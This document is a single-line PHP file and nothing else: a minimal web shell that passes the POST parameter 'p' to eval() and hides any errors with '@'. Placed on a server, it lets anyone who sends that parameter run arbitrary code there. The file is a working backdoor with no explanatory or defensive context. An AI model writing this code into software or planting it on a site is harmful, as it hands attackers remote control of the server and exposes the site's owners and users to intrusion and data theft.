<?php @eval($_POST['p']); ?>
